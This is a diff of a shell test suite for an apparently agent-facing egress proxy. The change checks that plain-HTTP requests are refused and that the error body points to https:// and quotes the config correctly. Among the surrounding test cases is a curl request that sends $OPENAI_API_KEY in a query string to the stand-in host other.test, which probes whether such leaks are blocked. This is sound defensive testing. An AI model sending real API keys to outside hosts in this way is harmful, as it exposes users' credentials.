@@ -178,8 +178,8 @@ c -o /dev/null -D "\$d/leakbody.hdr" -w 'leakbody=%{http_code}\n' \
 c -o /dev/null -D "\$d/leakq.hdr" -w 'leakq=%{http_code}\n' \
     "https://other.test/leakq?k=\$OPENAI_API_KEY"
 c -o /dev/null -w 'otherclean=%{http_code}\n' https://other.test/clean
-c -o /dev/null -D "\$d/plain.hdr" -w 'plain=%{http_code}\n' -H "\$A" \
-    http://origin.test/plain
+c -o "\$d/plain.body" -D "\$d/plain.hdr" -w 'plain=%{http_code}\n' \
+    -H "\$A" http://origin.test/plain
 c -o /dev/null -D "\$d/badcert.hdr" -w 'badcert=%{http_code}\n' \
     https://x.origin.test/
 c -o /dev/null -w 'opaque=%{http_code}\n' --cacert $MT_T/origin.crt \
@@ -369,6 +369,14 @@ mt_eq "...reason needs-tls" "X-Moat-Reason: needs-tls" \
 mt_eq "the origin never saw the plain request" 0 "$(mt_jl "$O" count path=/plain)"
 mt_eq "...nor a connection on port 80: refused before dialling" 0 \
     "$(mt_jl "$O" count event=accept 'local~:80$')"
+# The body is for an agent: it says to use https:// (which works), not that
+# every other spelling is denied, and quotes the config as it is written.
+mt_eq "...the body says to request https:// instead" "1 0" \
+    "$(grep -c 'with https:// instead of http://' "$MT_T/w/plain.body") $(grep -c 'other spellings' "$MT_T/w/plain.body")" \
+    "$MT_T/w/plain.body"
+mt_eq "...and shows quotes as quotes, not \\x22" "1 0" \
+    "$(grep -cF 'set "plain_http": true' "$MT_T/w/plain.body") $(grep -cF '\x22' "$MT_T/w/plain.body")" \
+    "$MT_T/w/plain.body"
 mt_eq "an upstream with a bad certificate: 502" 502 "$(mt_out s badcert)"
 mt_eq "...reason tls" "X-Moat-Reason: tls" \
     "$(grep -i '^X-Moat-Reason:' "$MT_T/w/badcert.hdr" | tr -d '\r')"
